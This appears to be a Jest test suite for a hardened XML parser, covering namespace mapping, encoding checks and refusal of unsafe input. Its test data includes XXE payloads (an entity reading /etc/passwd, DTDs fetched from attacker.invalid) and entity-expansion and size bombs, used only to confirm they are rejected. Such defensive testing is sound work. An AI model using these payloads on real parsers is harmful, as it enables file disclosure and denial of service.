import { describe, expect, it } from '@jest/globals';
import { ReadmissionError } from '#canonical-message';
import { readXml } from './read-xml.js';

const namespaces = { 'urn:example:message': 'msg', 'urn:example:person': 'per' };
const lists = new Set(['person']);
const read = (bytes: Uint8Array | string) => readXml(Buffer.from(bytes), { namespaces, lists });
const refusal = (bytes: Uint8Array | string): ReadmissionError | undefined => {
  try {
    read(bytes);
    return undefined;
  } catch (error) {
    if (error instanceof ReadmissionError) return error;
    throw error;
  }
};
const faults = (bytes: Uint8Array | string): string[] =>
  refusal(bytes)?.faults.map(({ code, pointer, detail }) => `${code} ${pointer} ${detail}`) ?? [];

const [invalid, forbidden, tooDeep] = ['XML_INVALID', 'XML_FORBIDDEN', 'XML_TOO_DEEP'];
const [limit, namespaceUnknown] = ['XML_LIMIT_EXCEEDED', 'NAMESPACE_UNKNOWN'];
const message = (content: string, attributes = '') =>
  `<message xmlns="urn:example:message"${attributes}>${content}</message>`;
const encoded = (encoding: string, content = 'Zëri') =>
  `<?xml version="1.0" encoding="${encoding}"?>${message(content)}`;
const utf16be = (text: string) => Buffer.from(text, 'utf16le').swap16();

const size = 4 * 1024 * 1024;
const times = (text: string) => text.repeat(Math.floor(size / text.length));

describe('reading XML', () => {
  it('names elements by namespace, whatever prefix the sender chose', () => {
    const trees = [
      '<message xmlns="urn:example:message" xmlns:p="urn:example:person"><p:name>A</p:name></message>',
      '<per:message xmlns:per="urn:example:message" xmlns:msg="urn:example:person"><msg:name>A</msg:name></per:message>',
      '<a:message xmlns:a="urn:example:message"><name xmlns="urn:example:person">A</name></a:message>',
    ].map(read);
    const name = { name: 'per:name', attributes: {}, children: [], text: 'A' };
    for (const tree of trees) {
      expect(tree).toEqual({ name: 'msg:message', attributes: {}, children: [name], text: '' });
    }
  });

  it('keeps a text as it is, over CDATA, comments and references, and drops spaces between elements', () => {
    const text = ' a<!-- gone -->b<![CDATA[<!DOCTYPE x>&amp;]]>&lt;&#233;&#x1F600;\r\n';
    expect(read(message(`\n  <name>${text}</name>\n`)).children[0]?.text).toBe(' ab<!DOCTYPE x>&amp;<é😀\n');
  });

  it('names attributes as elements, those without prefix by their local name', () => {
    const attributes = ' xmlns:p="urn:example:person" p:id="1" id="2"';
    expect(read(message('', attributes)).attributes).toEqual({ 'per:id': '1', id: '2' });
  });

  it('survives names that objects have by themselves', () => {
    const tree = read(message('<__proto__/><constructor/>', ' __proto__="x"'));
    expect(tree.children.map(({ name }) => name)).toEqual(['msg:__proto__', 'msg:constructor']);
    expect(Object.entries(tree.attributes)).toEqual([['__proto__', 'x']]);
    expect(faults('<a xmlns="constructor"/>')).toHaveLength(2);
    expect(faults(message('&constructor;'))).toEqual([`${forbidden} /message refers to an entity`]);
  });
});

describe('the encoding of XML', () => {
  it.each<[string, Uint8Array]>([
    ['UTF-8 undeclared', Buffer.from(message('Zëri'))],
    ['UTF-8 with mark, undeclared', Buffer.from(`\ufeff${message('Zëri')}`)],
    ['UTF-8 declared', Buffer.from(encoded('utf-8'))],
    ['UTF-8 with mark, declared', Buffer.from(`\ufeff${encoded('UTF-8')}`)],
    ['UTF-16, little end first', Buffer.from(`\ufeff${encoded('UTF-16')}`, 'utf16le')],
    ['UTF-16, big end first', utf16be(`\ufeff${encoded('utf-16')}`)],
    ['ISO-8859-1 declared', Buffer.from(encoded('ISO-8859-1'), 'latin1')],
  ])('reads %s', (_, bytes) => {
    expect(read(bytes).text).toBe('Zëri');
  });

  it.each<[string, Uint8Array]>([
    ['UTF-8 that is none', Buffer.from(encoded('UTF-8'), 'latin1')],
    ['UTF-8 with an encoded surrogate', Buffer.concat([Buffer.from('<a>'), Buffer.from([0xed, 0xa0, 0x80])])],
    ['UTF-16 undeclared', Buffer.from(`\ufeff${message('Zëri')}`, 'utf16le')],
    ['UTF-16 declared as UTF-8', Buffer.from(`\ufeff${encoded('UTF-8')}`, 'utf16le')],
    ['UTF-16 without mark', Buffer.from(encoded('UTF-16'), 'utf16le')],
    ['UTF-16 without mark, big end first', utf16be(encoded('UTF-16'))],
    ['UTF-16 with half a character', Buffer.from(`\ufeff${encoded('UTF-16', '\ud800')}`, 'utf16le')],
    ['UTF-16 declared, UTF-8 sent', Buffer.from(encoded('UTF-16'))],
    ['UTF-8 with mark, declared as UTF-16', Buffer.from(`\ufeff${encoded('UTF-16')}`)],
    ['UTF-8 declared as ISO-8859-1', Buffer.from(encoded('ISO-8859-1'))],
    ['windows-1252 declared as ISO-8859-1', Buffer.from(encoded('ISO-8859-1', '\u0096'), 'latin1')],
    ['UTF-7', Buffer.from(encoded('UTF-7'))],
    ['windows-1252', Buffer.from(encoded('windows-1252'), 'latin1')],
    ['two marks', Buffer.from(`\ufeff\ufeff${message('a')}`)],
    [
      'a declaration too long to be seen at first',
      Buffer.from(`<?xml version="1.0"${' '.repeat(600)}encoding="ISO-8859-1"?><a/>`),
    ],
  ])('refuses %s', (_, bytes) => {
    expect(refusal(bytes)?.code).toBe('ENCODING_INVALID');
  });
});

describe('what XML may not hold', () => {
  it.each([
    ['an empty DTD', '<!DOCTYPE a><a/>', ''],
    ['a DTD in small letters', '<!doctype a><a/>', ''],
    ['a DTD after a comment', '<?xml version="1.0"?> <!-- x --> <!DOCTYPE a><a/>', ''],
    ['a file', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>', ''],
    ['a remote DTD', '<!DOCTYPE a SYSTEM "http://attacker.invalid/a.dtd"><a/>', ''],
    ['a parameter entity', '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://attacker.invalid/"> %x;]><a/>', ''],
    ['a DTD after the root', `${message('')}<!DOCTYPE a>`, ''],
    ['an entity', message('<name>&x;</name>'), '/message/name'],
    ['an entity in an attribute', message('<name id="&x;"/>'), '/message/name'],
    ['a processing instruction', message('<name><?php x ?></name>'), '/message/name'],
    ['a style sheet', `<?xml-stylesheet href="x"?>${message('')}`, ''],
  ])('refuses %s', (_, text, pointer) => {
    expect(faults(text)).toEqual([expect.stringContaining(`${forbidden} ${pointer} `)]);
  });

  it.each(['&#0;', '&#x0;', '&#xD800;', '&#xFFFE;', '&#1114112;', '\0', '\u0001', '\u001f', '\ufffe', '\uffff'])(
    'refuses the character %j',
    (character) => {
      expect(faults(message(`<name>${character}</name>`))).toEqual([
        expect.stringContaining('TEXT_FORBIDDEN_CHARACTER /message/name '),
      ]);
    },
  );

  it.each([
    '',
    ' ',
    'a',
    '<a',
    '<a>',
    '<a></b>',
    '<a/><a/>',
    '<a/>x',
    ' <?xml version="1.0"?><a/>',
    '<?xml version="1.1"?><a/>',
    '<?xml version="1.0" encoding=" ISO-8859-1"?><a/>',
    `<?xml version="1.0 encoding='ISO-8859-1'" ?><a/>`,
    '<?xml encoding="UTF-8"?><a/>',
    '<a b/>',
    '<a b=c/>',
    '<a b="<"/>',
    '<a>]]></a>',
    '<a>&</a>',
    '<a>&#xZZ;</a>',
    '<a><!-- -- --></a>',
    '<a:b:c xmlns:a="urn:example:message"/>',
    '<a xmlns:p=""/>',
    '<1/>',
    '<a><![CDATA[</a>',
    '<a><!ENTITY x "y"></a>',
  ])('refuses %j as not XML', (text) => {
    expect(faults(text).join()).toContain(invalid);
  });

  it('refuses an attribute named twice, also under two prefixes, and a declaration made twice', () => {
    const twice = (attributes: string) => faults(message('', attributes));
    const fault = [`${invalid} /message names an attribute twice`];
    expect(twice(' id="1" id="2"')).toEqual(fault);
    expect(twice(' xmlns:p="urn:example:person" xmlns:q="urn:example:person" p:id="1" q:id="2"')).toEqual(fault);
    expect(twice(' xmlns="urn:example:message"')).toEqual(fault);
    expect(twice(' xmlns:p="urn:example:person" xmlns:p="urn:example:message"')).toEqual(fault);
  });

  it('refuses text beside elements, also as CDATA', () => {
    const fault = ['FIELD_INVALID /message mixes text with elements'];
    expect(faults(message('x<name/>'))).toEqual(fault);
    expect(faults(message('<name/><![CDATA[x]]>'))).toEqual(fault);
  });

  it('refuses namespaces that are not known, used or only declared, and what has none', () => {
    const fault = (pointer: string) => expect.stringMatching(new RegExp(`^${namespaceUnknown} ${pointer} .*namespace`));
    expect(faults('<message/>')).toEqual([fault('/message')]);
    expect(faults(message('<name xmlns=""/>'))).toEqual([fault('/message/name'), fault('/message/name/@xmlns')]);
    expect(faults(message('<p:name/>'))).toEqual([fault('/message/name')]);
    expect(faults(message('', ' p:id="1"'))).toContainEqual(fault('/message'));
    expect(faults(message('', ' xmlns:p="urn:example:other"'))).toEqual([fault('/message/@xmlns:p')]);
    expect(faults(message('', ' xml:lang="de"'))).toEqual([fault('/message/@xml:lang')]);
    expect(faults(message('', ' xmlns:p=" urn:example:person"'))).toEqual([fault('/message/@xmlns:p')]);
    expect(faults(message('', ' xmlns:p="URN:example:person"'))).toEqual([fault('/message/@xmlns:p')]);
    expect(faults(message('<n xmlns="urn:example:other"><n/></n>'))).toHaveLength(2);
  });

  it('tells all faults at once, with the index of elements that are lists, and quotes nothing', () => {
    const text = message(
      '<person/><person><name>SHEMBULL&SHEMBULL;</name></person><a>SHEMBULL<b/></a><?SHEMBULL SHEMBULL?>',
      ' xmlns:p="urn:SHEMBULL"',
    );
    expect(refusal(text)?.faults).toEqual([
      expect.objectContaining({ code: namespaceUnknown, pointer: '/message/@xmlns:p' }),
      expect.objectContaining({ code: forbidden, pointer: '/message/person/1/name' }),
      expect.objectContaining({ code: 'FIELD_INVALID', pointer: '/message/a' }),
      expect.objectContaining({ code: forbidden, pointer: '/message' }),
    ]);
    const broken = refusal(text.replace('</a>', '</b>'));
    expect(JSON.stringify([broken?.faults, broken?.message, refusal(text)?.faults])).not.toContain('SHEMBULL');
  });
});

describe('what costs too much', () => {
  const laughs = Array.from({ length: 9 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`).join('');
  const bombs: [string, string, string][] = [
    ['a billion laughs', `<!DOCTYPE a [<!ENTITY l0 "ha">${laughs}]><a>&l9;</a>`, forbidden],
    ['quadratic blow-up', `<!DOCTYPE a [<!ENTITY l "${times('a')}">]><a>${'&l;'.repeat(10_000)}</a>`, forbidden],
    ['a DTD of 4 MiB', `<!DOCTYPE a [${times('<!ENTITY l "a">')}]><a/>`, forbidden],
    ['deep nesting', '<a>'.repeat(100_000), tooDeep],
    ['4 MiB of deep nesting', times('<a>'), limit],
    ['deep nesting over lines', '<a\n b="">'.repeat(70_000), tooDeep],
    ['elements without end', `<a>${times('<a/>')}</a>`, limit],
    ['attributes without end', `<a ${Array.from({ length: 300_000 }, (_, at) => `a${at}=""`).join(' ')}/>`, limit],
    ['references', `<a>${times('&amp;')}</a>`, limit],
    ['entities', `<a>${times('&l;')}</a>`, limit],
    ['fewer entities', `<a>${'&l;'.repeat(140_000)}</a>`, forbidden],
    ['NUL', `<a>${times('\0')}</a>`, 'TEXT_FORBIDDEN_CHARACTER'],
    ['CDATA sections', `<a>${times('<![CDATA[]]>')}</a>`, limit],
    ['brackets in CDATA', `<a><![CDATA[${times(']')}]]></a>`, limit],
    ['dashes in a comment', `<a><!--${times('- ')}--></a>`, limit],
    ['question marks in an instruction', `<a><?a ${times('?')}?></a>`, limit],
    ['line ends in an attribute', `<a b="${times('\n')}"/>`, limit],
    ['a comment without end', `<!--${times('a')}`, invalid],
    ['a name', `<${times('a')}/>`, limit],
    ['an attribute name', `<a ${times('a')}=""/>`, limit],
    ['an entity name', `<a>&${times('a')};</a>`, forbidden],
    [
      'a document in another namespace',
      `<a xmlns="urn:example:other">${'<b c=""/>'.repeat(9_000)}</a>`,
      namespaceUnknown,
    ],
  ];
  // What each costs in time is measured by the benchmark, never here.
  it.each(bombs)('refuses %s', (_, text, code) => {
    const found = refusal(Buffer.from(text));
    expect(found?.faults.map((fault) => fault.code)).toContain(code);
    expect(found?.faults.length).toBeLessThanOrEqual(51);
  });

  it('reads 4 MiB of base64 in lines, and 32 levels', () => {
    const base64 = times(`${'QUJD'.repeat(16)}\r\n`);
    expect(read(message(base64)).text).toHaveLength(base64.length - base64.length / 66);
    const deep = '<message xmlns="urn:example:message">' + '<a>'.repeat(31) + '</a>'.repeat(31) + '</message>';
    expect(faults(deep)).toEqual([]);
    expect(faults(deep.replace('</a>', '<a/></a>'))).toEqual([expect.stringContaining('nested more than 32 deep')]);
  });
});
